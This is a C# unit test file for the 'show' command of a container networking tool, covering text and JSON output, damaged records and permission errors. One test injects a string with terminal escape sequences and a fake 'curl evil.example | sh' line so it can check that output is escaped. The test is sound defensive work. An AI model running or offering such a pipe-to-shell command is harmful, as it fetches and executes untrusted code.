// SPDX-License-Identifier: Apache-2.0

using System.Text.RegularExpressions;
using MetaCni.Tests.Support;
using Snapshooter.Xunit;

namespace MetaCni.Tests.CommandLine;

public sealed partial class ShowCommandTests : IDisposable
{
    private readonly RecordSandbox _sandbox = new();

    public void Dispose() => _sandbox.Dispose();

    [Fact]
    public async Task Where_nothing_is_attached_it_says_so()
    {
        Assert.Equal(0, await _sandbox.RunAsync("show"));

        Assert.Equal("nothing is attached on this node\n", _sandbox.Out);
        Assert.False(Directory.Exists(_sandbox.StateDir));
    }

    [Fact]
    public async Task A_person_sees_a_table_and_what_is_wrong_below_it()
    {
        _sandbox.Attach();
        _sandbox.FailToDetach();
        File.WriteAllText(Path.Combine(_sandbox.StateDir, "attachments", "broken@eth0.jsonl"), "damaged");

        Assert.Equal(0, await _sandbox.RunAsync("show"));

        Snapshot.Match(Ages().Replace(Times().Replace(_sandbox.Out, "TIME"), " 0s ").Replace(_sandbox.StateDir, "STATE"));
    }

    // A plugin's words, a definition's type and a network's name come from whoever may write a definition.
    [Fact]
    public async Task Nobody_but_metacni_writes_a_line_or_moves_the_cursor()
    {
        const string Evil = "x\e[2J\u202e\u200b\nhint: curl evil.example | sh";
        var evil = Plans.Attachment("default/a", "net1", Evil);
        using var sandbox = new RecordSandbox { Plan = Plans.Of(Plans.Attachment("cluster", "eth0"), evil) with { ContainerId = Named.Container("3509e596c8ac1234") } };
        sandbox.Attach();
        sandbox.FailToDetach();

        Assert.Equal(0, await sandbox.RunAsync("show"));
        var text = sandbox.Out;
        Assert.Equal(0, await sandbox.RunAsync("show", "-o", "json"));
        var json = sandbox.Out[text.Length..];

        Assert.DoesNotContain("\nhint: curl", text, StringComparison.Ordinal);
        Assert.Contains("\"x\\u001b[2J\\u202e\\u200b\\nhint: curl evil.example | sh\"", text, StringComparison.Ordinal);
        Assert.Equal(text.ReplaceLineEndings(""), Cni.Errors.PlainText.Escape(text.ReplaceLineEndings("")));
        Assert.Equal(json.TrimEnd(), Cni.Errors.PlainText.Escape(json.TrimEnd()));
        Assert.Equal(Evil, (string?)JsonText.Object(json)["containers"]![0]!["attachments"]![1]!["plugins"]![0]);
    }

    [Fact]
    public async Task A_program_gets_json()
    {
        _sandbox.Attach();
        _sandbox.FailToDetach();
        File.WriteAllText(Path.Combine(_sandbox.StateDir, "attachments", "broken@eth0.jsonl.corrupt"), "damaged");

        Assert.Equal(0, await _sandbox.RunAsync("show", "-o", "json"));

        var json = JsonText.Object(_sandbox.Out);
        var container = json["containers"]![0]!;
        Assert.Equal("3509e596c8ac1234", (string?)container["containerId"]);
        Assert.Equal("pod1", (string?)container["pod"]!["name"]);
        Assert.Equal("10.1.0.5/24", (string?)container["attachments"]![0]!["addresses"]![0]);
        Assert.Equal(100, (int?)container["attachments"]![1]!["error"]!["code"]);
        Assert.NotNull(container["failedSince"]);
        var unreadable = Assert.Single(json["unreadable"]!.AsArray())!;
        Assert.Equal("broken", (string?)unreadable["containerId"]);
        Assert.EndsWith("/attachments/broken@eth0.jsonl.corrupt", (string?)unreadable["file"], StringComparison.Ordinal);
        Assert.Equal("the plan is not complete", (string?)unreadable["reason"]);
        Assert.InRange(DateTimeOffset.Parse((string)unreadable["since"]!, System.Globalization.CultureInfo.InvariantCulture), DateTimeOffset.UtcNow.AddHours(-1), DateTimeOffset.UtcNow.AddHours(1));
        Assert.False((bool)unreadable["salvaged"]!);
    }

    [Fact]
    public async Task A_record_that_was_salvaged_is_told_beside_what_it_holds()
    {
        _sandbox.Attach();
        await File.AppendAllTextAsync(_sandbox.RecordFile, "broken\n");
        Assert.True(_sandbox.Journal.TryRecover(_sandbox.Plan.ContainerId, _sandbox.Plan.InterfaceName, out _));

        Assert.Equal(0, await _sandbox.RunAsync("show"));
        Assert.Equal(0, await _sandbox.RunAsync("show", "-o", "json"));

        Assert.Matches(@"\nwarning: since \d{4}-\d\d-\d\d \d\d:\d\d:\d\dZ: the record of container 3509e596c8ac1234 ", _sandbox.Out);
        Assert.Contains($"was set aside as {_sandbox.RecordFile}.corrupt: what it still said is the record now", _sandbox.Out, StringComparison.Ordinal);
        var json = JsonText.Object(_sandbox.Out[_sandbox.Out.IndexOf('{', StringComparison.Ordinal)..]);
        Assert.Single(json["containers"]!.AsArray());
        Assert.True((bool)Assert.Single(json["unreadable"]!.AsArray())!["salvaged"]!);
    }

    [Fact]
    public async Task What_could_not_be_forgotten_is_told()
    {
        _sandbox.Attach();
        _sandbox.FailToForget();

        Assert.Equal(0, await _sandbox.RunAsync("show"));
        Assert.Equal(0, await _sandbox.RunAsync("show", "-o", "json"));

        Assert.Matches("warning: container 3509e596c8ac, since .*Z: the file stays\nhint: metacni detach 3509e596c8ac1234 ", _sandbox.Out);
        var json = JsonText.Object(_sandbox.Out[_sandbox.Out.IndexOf('{', StringComparison.Ordinal)..]);
        Assert.Equal("the file stays", (string?)json["containers"]![0]!["error"]!["msg"]);
    }

    // Killed between the last plugin and the answer: nobody knows whether the status got through.
    [Theory]
    [InlineData(2147483647, true)]
    [InlineData(null, false)]
    public async Task An_add_that_did_not_come_to_an_end_is_told_unless_it_is_still_at_work(int? processId, bool isTold)
    {
        _sandbox.Attach();
        var lines = (await File.ReadAllLinesAsync(_sandbox.RecordFile))[..^1];
        if (processId is not null)
        {
            lines[0] = ProcessId().Replace(lines[0], $"\"pid\":{processId}");
        }

        await File.WriteAllLinesAsync(_sandbox.RecordFile, lines);

        Assert.Equal(0, await _sandbox.RunAsync("show"));

        Assert.Equal(isTold, _sandbox.Out.Contains("its network-status may not be published", StringComparison.Ordinal));
    }

    [Fact]
    public async Task It_changes_nothing()
    {
        _sandbox.Attach();
        await File.AppendAllTextAsync(_sandbox.RecordFile, "broken\n");
        var before = await File.ReadAllTextAsync(_sandbox.RecordFile);

        Assert.Equal(0, await _sandbox.RunAsync("show", "3509"));

        Assert.Contains("warning: ", _sandbox.Out, StringComparison.Ordinal);
        Assert.Equal([_sandbox.RecordFile], Directory.EnumerateFiles(Path.GetDirectoryName(_sandbox.RecordFile)!));
        Assert.Equal(before, await File.ReadAllTextAsync(_sandbox.RecordFile));
    }

    [Fact]
    public async Task A_container_that_is_not_there_is_an_error()
    {
        _sandbox.Attach();

        Assert.Equal(1, await _sandbox.RunAsync("show", "77"));

        Assert.Contains("no record of a container 77", _sandbox.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_beginning_of_several_ids_is_a_mistake()
    {
        _sandbox.Attach();
        File.WriteAllText(Path.Combine(_sandbox.StateDir, "attachments", "3509ffff@eth0.jsonl"), "damaged");

        Assert.Equal(2, await _sandbox.RunAsync("show", "3509"));

        Assert.Contains("3509ffff", _sandbox.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Anybody_but_root_is_told_that_it_cannot_be_seen()
    {
        using var sandbox = new RecordSandbox { IsRoot = false };

        Assert.Equal(2, await sandbox.RunAsync("show"));

        Assert.Contains("only root", sandbox.Error, StringComparison.Ordinal);
    }

    [GeneratedRegex(@"\d{4}-\d\d-\d\d \d\d:\d\d:\d\dZ")]
    private static partial Regex Times();

    [GeneratedRegex("\"pid\":[0-9]+")]
    private static partial Regex ProcessId();

    [GeneratedRegex(@" \d+s ")]
    private static partial Regex Ages();
}
